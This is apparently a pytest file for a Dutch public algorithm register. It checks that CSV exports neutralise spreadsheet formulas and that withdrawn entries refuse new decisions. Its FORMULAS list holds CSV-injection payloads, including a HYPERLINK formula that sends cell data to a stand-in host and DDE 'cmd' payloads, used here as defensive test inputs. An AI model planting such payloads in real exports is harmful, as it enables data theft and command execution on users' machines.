"""CSV exports never carry a formula (issue 12, point 8), and retracted or archived entries explain
no new decisions while old receipts stay readable (point 13)."""
from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from register.models.explanation import DecisionReceipt
from register.services import algorithms as algos

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
WOZ_CASE = {"wijk": "centrum", "woningtype": "appartement", "woonoppervlak": "120", "perceeloppervlak": "0",
            "bouwjaar": "1930", "energielabel": "C", "onderhoudsstaat": "goed", "parkeerplaats": "nee"}


def test_the_sensor_csv_neutralises_formulas_and_keeps_numbers(client, session, people, hostile):
    from register.services import sensors as svc

    for i, formula in enumerate(FORMULAS):
        svc.create_sensor(session, user=people["registrant"], organisation=people["org"], locale="en",
                          data=hostile.valid_sensor(reference=f"CAM-{i}", purpose=formula, measures=formula,
                                                    lat=52.3731 + i / 10000))
    text = client.get("/sensors.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(value), (column, value)
    by_reference = {row["reference"]: row for row in rows}
    assert by_reference["CAM-2"]["purpose"] == "'" + FORMULAS[2].strip()
    assert float(by_reference["CAM-0"]["lat"]) == pytest.approx(52.3731)  # numbers stay numbers
    assert by_reference["CAM-0"]["retention_days"] == "28"


def _number(value: str) -> bool:
    try:
        float(value.replace(",", "."))
        return True
    except ValueError:
        return False


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched():
    from geo.export import spreadsheet_safe

    assert spreadsheet_safe(-4.89) == -4.89 and spreadsheet_safe(-28) == -28
    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe("+31") == "+31"
    assert spreadsheet_safe("Beelden van de stoep") == "Beelden van de stoep"
    assert spreadsheet_safe("-12.5 graden") == "'-12.5 graden"
    assert spreadsheet_safe("@gemeente") == "'@gemeente"


def test_the_algorithms_csv_export_neutralises_formulas(runner, session, people, hostile, tmp_path):
    algorithm = algos.create_entry(session=session, user=people["registrant"], organisation=people["org"],
                                   data=hostile.valid_entry(name="=HYPERLINK(\"http://evil.example\")",
                                                            supplier="@SUM(1+1)"))
    algos.submit(session=session, user=people["registrant"], algorithm=algorithm)
    algos.approve(session=session, user=people["approver"], algorithm=algorithm)
    out = tmp_path / "algoritmes.csv"
    assert runner.invoke(args=["algorithms", "export", "--format", "csv", str(out)]).exit_code == 0
    row = next(csv.DictReader(out.open(encoding="utf-8")))
    assert row["name"] == "'=HYPERLINK(\"http://evil.example\")" and row["supplier"] == "'@SUM(1+1)"


@pytest.mark.parametrize("state", ["retracted", "archived"])
def test_withdrawn_entries_explain_no_new_decisions_and_old_receipts_stay_readable(
        client, runner, session, app, people, woz, hostile, tmp_path, state):
    made = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE, "case_ref": "Z-1"},
                       headers=people["token"])
    assert made.status_code == 201
    receipt_url = made.get_json()["url"].removeprefix("http://localhost")
    algos.set_public_state(session=session, user=people["approver"], algorithm=woz, state=state,
                           reason="Niet meer in gebruik")
    before = hostile.snapshot(session, app.config["DATA_DIR"])

    refused = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE},
                          headers=people["token"])
    assert refused.status_code == 410
    word = {"retracted": "teruggetrokken", "archived": "gearchiveerd"}[state]
    assert word in refused.get_json()["error"]
    page = client.get(f"/algorithms/{woz.code}/explain")
    assert page.status_code == 410 and word in page.get_data(as_text=True)
    english = client.post(f"/algorithms/{woz.code}/explain.json?lang=en", json=WOZ_CASE)
    assert english.status_code == 410 and "no new decisions are explained" in english.get_json()["error"]
    cases = tmp_path / "cases.csv"
    cases.write_text(",".join(WOZ_CASE) + "\n" + ",".join(WOZ_CASE.values()) + "\n", encoding="utf-8")
    batch = runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(tmp_path / "out.csv")])
    assert batch.exit_code != 0 and f"is {state}" in batch.output
    assert hostile.snapshot(session, app.config["DATA_DIR"]) == before
    assert len(session.exec(select(DecisionReceipt)).all()) == 1

    assert client.get(receipt_url).status_code == 200  # the resident's explanation stays readable
    assert client.get(receipt_url + ".pdf").status_code == 200
